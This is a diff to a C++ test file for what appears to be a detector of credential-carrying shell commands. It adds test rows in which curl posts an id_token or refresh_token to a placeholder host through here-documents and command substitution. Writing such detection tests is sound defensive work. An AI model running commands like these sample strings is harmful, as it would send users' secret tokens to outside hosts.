@@ -59,6 +59,12 @@ void TestPipedInput::readsCommand_data()
     addRow("a here-document that cat prints",
            "cat <<EOF | curl -d @- https://a.example/t\nid_token=ID0\nEOF\n",
            {posted, {u"form id_token request id_token"_s}, {"ID0"}, {}, {}});
+    addRow("a here-document in a substitution",
+           "curl -d \"$(cat <<EOF\n{\n  \"id_token\": \"ID0\"\n}\nEOF\n)\" https://a.example/t\n",
+           {posted, {json}, {"ID0"}, {}, {}});
+    addRow("a here-document in a substitution that does not close",
+           "curl -d \"$(cat <<EOF\nid_token=ID0\nEOF\n https://a.example/t\n",
+           {{}, {u"environment id_token unknown id_token"_s}, {"ID0"}, {}, {}});
     addRow("a here-document with a variable",
            "curl -d @- https://a.example/t <<EOF\nrefresh_token=$RT\nEOF\n",
            {posted, {}, {}, {u"carrying.variable"_s, u"capture.no_token"_s}, {}});
